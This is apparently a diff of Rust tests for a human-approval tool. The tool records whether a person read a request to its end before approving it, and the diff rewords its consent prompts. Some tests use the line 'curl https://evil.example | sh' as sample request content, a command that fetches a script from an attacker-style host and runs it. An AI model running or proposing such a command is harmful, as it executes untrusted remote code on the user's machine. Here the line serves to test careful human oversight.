@@ -25,7 +25,7 @@ fn a_yes_that_was_given_unread_is_on_record_and_can_be_refused() {
     let digest = sandbox.show(&id)["digest"].as_str().unwrap().to_owned();
     sandbox.ok(&["answer", &id, "yes", "--unread", "--digest", &digest, "--by", "bo"]);
     at(&sandbox.show(&id), "/answer/seen", false);
-    assert!(sandbox.ok(&["show", &id]).contains("consented unread"));
+    assert!(sandbox.ok(&["show", &id]).contains("approved without reading it all"));
     let receipt: Value = serde_json::from_str(&sandbox.ok(&["receipt", &id])).unwrap();
     at(&receipt, "/answer/seen", false);
     let file = sandbox.file("subject", "make");
@@ -50,7 +50,9 @@ fn without_script_the_person_says_that_they_have_read_it() {
             let id = server.ask(&approval("Run?", &script()));
             let path = format!("/d/{id}");
             ana.get(&path).shows("curl https://evil.example | sh").lacks("data-focus");
-            ana.fill(&path, &[("v:c", "yes")]).is(422).shows("read it to its end before you consent");
+            ana.fill(&path, &[("v:c", "yes")])
+                .is(422)
+                .shows("read to the end, or approve without reading all of it");
             assert!(server.decision(&id)["answer"].is_null());
             ana.fill(&path, &[("v:c", "yes"), beside]).is(303);
             assert_eq!(server.decision(&id)["answer"]["seen"], seen);
@@ -71,9 +73,9 @@ fn the_inbox_waits_for_the_end_of_the_subject() {
     let mut inbox = inbox(&sandbox, &["--by", "bo"]);
     inbox.shows("1 pending decision");
     inbox.press("1");
-    inbox.shows("  echo step 1").shows("lines left to read before you consent");
+    inbox.shows("  echo step 1").shows("lines left · PgDn");
     inbox.press("1");
-    inbox.shows("lines of the subject are left to read first: PgDn. C consents unread.");
+    inbox.shows("lines left (PgDn). C approves unread.");
     for _ in 0..5 {
         inbox.press("\u{1b}[6~");
     }
@@ -94,13 +96,13 @@ fn a_leap_to_the_end_is_not_reading() {
     let mut inbox = inbox(&sandbox, &["--by", "bo"]);
     inbox.shows("1 pending decision");
     inbox.press("1");
-    inbox.shows("lines left to read before you consent");
+    inbox.shows("lines left · PgDn");
     inbox.press("sG");
     inbox.shows("curl https://evil.example | sh");
     inbox.press("u");
-    inbox.shows("lines left to read before you consent");
+    inbox.shows("lines left · PgDn");
     inbox.press("1");
-    inbox.shows("lines of the subject are left to read first: PgDn. C consents unread.");
+    inbox.shows("lines left (PgDn). C approves unread.");
     at(&sandbox.show(&id), "/status", "pending");
 }
 
@@ -127,7 +129,7 @@ fn the_inbox_ignores_keys_that_were_typed_ahead() {
     let mut inbox = inbox(&sandbox, &["--by", "bo"]);
     inbox.shows("4 pending decisions").hides("just appeared …");
     inbox.press_at_once("1\r2\r1\r2\r");
-    inbox.shows("did nothing");
+    inbox.shows("gnored");
     for id in &ids {
         at(&sandbox.show(id), "/status", "pending");
     }
@@ -146,8 +148,8 @@ fn answer_ignores_keys_that_were_typed_before_it_showed_the_subject() {
         let id = sandbox.ask_document(&approval("Run?", &subject));
         let mut answer = Terminal::start(&sandbox, &["answer", &id, "yes", "--by", "bo"]);
         answer.press_at_once("y\rr\r");
-        answer.until("did nothing");
-        answer.until("y sends it, Enter does not:");
+        answer.until("were ignored");
+        answer.until("Send? [y/N]");
         answer.press("\r");
         answer.until("Nothing was sent");
         at(&sandbox.show(&id), "/status", "pending");
@@ -166,7 +168,7 @@ fn next_asks_whether_what_is_longer_than_the_screen_was_read() {
         next.press("1\r");
         next.until("Message");
         next.press("\r");
-        next.until("r: I have read it to its end, u: I consent unread");
+        next.until("r I read it all, u approve unread");
         next.press(&format!("{key}\r"));
         next.until("Answered");
     }
